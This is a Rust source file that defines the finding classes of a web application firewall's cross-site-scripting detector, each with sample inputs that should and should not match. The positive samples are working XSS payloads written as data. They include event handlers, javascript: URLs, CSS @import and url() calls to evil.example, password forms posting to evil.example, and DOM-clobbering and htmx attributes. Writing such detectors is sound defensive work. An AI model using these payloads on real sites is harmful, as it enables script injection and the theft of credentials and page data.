//! What the markup detector can find.

use crate::waf::detect::macros::findings;

findings! {
    class Xss, tags &["html"];
    ACTIVE_TAG: "xss-active-tag", STRONG, "a tag that runs, loads or embeds something",
        ["<script>alert(1)</script>", "<svg/x>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>"],
        ["<b>bold</b>", "a <scripted b", "price < 5"];
    EVENT_HANDLER: "xss-event-handler", STRONG, "an event handler",
        ["<img src=x onerror=alert(1)>", "<x/onclick=a()>"],
        ["depends on load = 5", "once=1", "/api.js?onload=ready"];
    OPEN_SCRIPT: "xss-open-script", STRONG, "a script without attributes that nothing ends",
        ["<script>alert(1)", "<script> tag: what is it?"], ["<script>a()</script>", "the script tag"];
    SCRIPT_URL: "xss-script-url", STRONG, "a URL that is a script",
        ["<a href=' java\tscript:x()'>"],
        ["javascript: the good parts", "data:image/png;base64,AAAA"];
    ACTIVE_STYLE: "xss-active-style", STRONG, "a style that runs or loads something",
        ["<p style='x:expr/**/ession(alert(1))'>", "<style>@import'//evil.example/x'</style>", "<style>input[value^=a]{background:url(//evil.example/a)}</style>"],
        ["<p style='color:red'>", "set url(x) in the style"];
    DANGEROUS_ATTRIBUTE: "xss-attribute", STRONG, "an attribute that holds markup or a place to send a form",
        ["<x srcdoc='&lt;'>", "<button formaction=//evil.example>"], ["<p class='x'>"];
    FOREIGN_FORM: "xss-foreign-form", STRONG, "a form that posts elsewhere",
        ["<form action=//evil.example><input type=password>", "<form method=post action=' https://evil.example/x'>", "<form action='\\\\evil.example'>"],
        ["<form action=/search>", "<form action='?a=https://x.example'>"];
    CLOBBERING: "xss-clobbering", STRONG @ 2, "an element named like a member of the page that scripts rely on",
        ["<img name=cookie>", "<form id=getElementById>", "<input name=parentNode>", "<a id=attributes>"],
        ["<img name=photo>", "<input name=body>", "<a name=top>", "<h2 id=location>"];
    LIBRARY_ATTRIBUTE: "xss-library-attribute", STRONG @ 2, "an attribute that scripts of the page load from, or run",
        ["<div hx-get=//evil.example/x hx-trigger=load>", "<p data-hx-post=/account/delete>", "<i x-init=a()>", "<b v-html=x>", "<i ng-init='a=1'>"],
        ["<p data-id=7>", "<p class=hx-get>", "hx-get=/x loads it"];
    SPELLED_TAG: "xss-spelled-tag", STRONG, "a tag with its letters apart", ["<s c r i p t"], ["a <b and c"];
    NAMESPACED: "xss-namespaced-tag", MEDIUM, "a tag of some namespace", [], [];
    FORM_TAG: "xss-page-tag", MEDIUM, "a tag of whole pages", [], [];
    CONTEXT_END: "xss-context-end", STRONG, "the end of an element that holds no markup",
        ["</script>", "</textarea>x"], ["</p>"];
    DECLARATION: "xss-declaration", STRONG, "a declaration of entities, attributes or style sheets",
        ["<!DOCTYPE x [<!ENTITY a 'b'>]>", "<?xml-stylesheet href='x'?>"], ["<!DOCTYPE html>"];
    CONDITIONAL: "xss-conditional-comment", STRONG, "a comment that browsers or servers run", ["<!--[if gte IE 4]>"], ["<!-- note -->"];
    COMMENT_END: "xss-comment-end", STRONG, "the end of a comment, where none began", ["-->x"], ["a --> b", "--> here"];
    COMMENT: "xss-comment", FAINT, "a comment of markup", [], [];
    UTF7: "xss-utf7", STRONG, "markup in UTF-7", ["+ADw-script+AD4-"], ["a+b"];
    EVENT_BEHIND: "xss-event-behind", STRONG, "an event handler behind an attribute",
        ["\" autofocus onfocus=alert(1) x=\"", "a onclick=a()"],
        ["depends on load = 5", "once=1", "/api.js?onload=ready", "<p onclick=a()>"];
    ATTRIBUTE_BEHIND: "xss-attribute-behind", STRONG, "an attribute that holds markup or a place to send a form, behind another",
        ["\" formaction=//evil.example"], ["formaction='x'"];
    SCRIPT_VALUE: "xss-script-value", STRONG, "a URL that is a script, as the whole value",
        ["javascript:alert(1)", "data:text/html,<b>"],
        ["javascript: the good parts", "data:image/png;base64,AAAA"];
}
